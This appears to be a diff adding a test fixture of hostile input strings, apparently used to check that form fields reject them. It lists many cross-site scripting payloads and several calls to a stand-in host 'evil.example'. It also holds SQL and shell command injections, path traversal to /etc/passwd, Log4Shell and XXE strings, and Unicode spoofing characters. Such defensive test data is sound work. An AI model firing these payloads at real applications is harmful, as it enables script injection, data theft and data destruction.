@@ -1,0 +1,133 @@
+const CALLS = ['alert(1)', 'print()', "fetch('//evil.example')", "import('//evil.example/x.js')", 'top.hit=1']
+const EVENTS =
+  'onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerover onbegin onpageshow'.split(
+    ' ',
+  )
+const TAGS = 'img svg video audio body details input marquee iframe object'.split(' ')
+
+const each = <T>(all: readonly T[], of: (one: T, n: number) => string[]): string[] => all.flatMap(of)
+
+/** Texts by what they try, each of one line; what a field refuses of them never gets to a page. */
+export const HOSTILE_TEXTS: Readonly<Record<string, readonly string[]>> = {
+  'a script': each(CALLS, (call) => [
+    `<script>${call}</script>`,
+    `<SCRIPT>${call}</SCRIPT>`,
+    `<script src=//evil.example/x.js></script>${call}`,
+    `<script/x>${call}</script>`,
+    `<scr<script>ipt>${call}</scr</script>ipt>`,
+    `"><script>${call}</script>`,
+    `'><script>${call}</script>`,
+    `</script><script>${call}</script>`,
+    `<script type=module>${call}</script>`,
+    `<script nonce=x>${call}</script>`,
+  ]),
+  'an event': each(EVENTS, (event, n) =>
+    CALLS.slice(0, 4).map((call) => `<${TAGS[n]} src=x ${event}=${call} autofocus open>`),
+  ),
+  'an event in quotes': each(EVENTS, (event, n) => [
+    `"><${TAGS[n]} ${event}="alert(1)">`,
+    `'><${TAGS[n]} ${event}='alert(1)'>`,
+    `<${TAGS[n]}/${event}=\`alert(1)\`>`,
+    `" ${event}="alert(1)" x="`,
+  ]),
+  'a picture or a drawing': each(CALLS, (call) => [
+    `<svg><script>${call}</script></svg>`,
+    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+    `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
+    `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject></svg>`,
+    `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+    `<img src="https://evil.example/p.gif?${call}">`,
+    `<picture><source srcset="//evil.example/x"><img onerror=${call}></picture>`,
+    `<image href="//evil.example/x" onerror=${call}>`,
+  ]),
+  'a frame or a form': each(CALLS, (call) => [
+    `<iframe src="javascript:${call}"></iframe>`,
+    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
+    `<object data="javascript:${call}"></object>`,
+    `<embed src="//evil.example/${call}">`,
+    `<form action="javascript:${call}"><button>press</button></form>`,
+    `<form><button formaction="javascript:${call}">press</button></form>`,
+    `<base href="//evil.example/${call}/">`,
+    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  ]),
+  'an address': each(CALLS, (call) => [
+    `javascript:${call}`,
+    `JaVaScRiPt:${call}`,
+    `java&#x09;script:${call}`,
+    `&#106;avascript:${call}`,
+    `data:text/html,<script>${call}</script>`,
+    `vbscript:${call}`,
+    `<a href="javascript:${call}">press</a>`,
+    `[press](javascript:${call})`,
+    `blob:https://evil.example/${call}`,
+  ]),
+  'a style': each(CALLS, (call) => [
+    `<style>@import "//evil.example/${call}";</style>`,
+    `<style>*{background:url(//evil.example/${call})}</style>`,
+    `<div style="background:url('javascript:${call}')">`,
+    `<link rel=stylesheet href=//evil.example/${call}>`,
+    `<p style="position:fixed;inset:0;z-index:9999">${call}</p>`,
+    `</style><script>${call}</script>`,
+  ]),
+  'a template': each(CALLS, (call) => [
+    `{{${call}}}`,
+    `{{constructor.constructor('${call}')()}}`,
+    `$\u007b${call}\u007d`,
+    `<%= ${call} %>`,
+    `#{${call}}`,
+    `[[${call}]]`,
+    `{%raw%}${call}{%endraw%}`,
+  ]),
+  'written otherwise': each(CALLS, (call) => [
+    `&lt;script&gt;${call}&lt;/script&gt;`,
+    `%3Cscript%3E${call}%3C/script%3E`,
+    `\\u003cscript\\u003e${call}`,
+    `\\x3cscript\\x3e${call}`,
+    `&#60;img src=x onerror=${call}&#62;`,
+    `＜script＞${call}＜/script＞`,
+    `+ADw-script+AD4-${call}`,
+    `<img src=x oneonerrorrror=${call}>`,
+  ]),
+  'a repaired tree': each(CALLS, (call) => [
+    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+    `<table><td><svg><desc><td><img src onerror=${call}>`,
+    `<select><template><img src=x onerror=${call}></template></select>`,
+    `<textarea></textarea><img src=x onerror=${call}>`,
+    `<!--><img src=x onerror=${call}>-->`,
+    `<![CDATA[<img src=x onerror=${call}>]]>`,
+    `<xmp></xmp><img src=x onerror=${call}>`,
+  ]),
+  'a name of the page': each(
+    ['body', 'cookie', 'location', 'nodeName', 'innerHTML', 'parentNode'],
+    (name) => [
+      `<form id=${name}><input name=${name}></form>`,
+      `<a id=${name} href="javascript:alert(1)">`,
+      `<img name=${name} src=//evil.example>`,
+      `__proto__.${name}=1`,
+      `{"__proto__":{"${name}":1}}`,
+      `constructor[prototype][${name}]`,
+    ],
+  ),
+  'signs that hide or turn': each(['admin', 'gpj.exe', 'alert(1)', 'https://evil.example'], (word) => [
+    `\u202e${word}`,
+    `\u2066${word}\u2069`,
+    `${word}\u200b${word}`,
+    `${word}\u0000${word}`,
+    `${[...word].map((sign) => `${sign}${'\u0336'.repeat(9)}`).join('')}`,
+    `\u001b[31m${word}\u001b[0m`,
+    `${word}\u2028${word}`,
+    `שלום ${word} עולם`,
+    `${'ﷺ'.repeat(40)} ${word}`,
+    `${'W'.repeat(300)}${word}`,
+  ]),
+  'a statement': each(["' OR 1=1 --", '"; DROP TABLE app.chat_message; --', '$(id)', '`id`'], (word) => [
+    word,
+    `x${word}`,
+    `x'); ${word}`,
+    `../../../etc/passwd ${word}`,
+    `%s%n${word}`,
+    `\${jndi:ldap://evil.example/${word}}`,
+    `<!ENTITY x SYSTEM "file:///etc/passwd"> ${word}`,
+    `=HYPERLINK("//evil.example","${word}")`,
+  ]),
+}
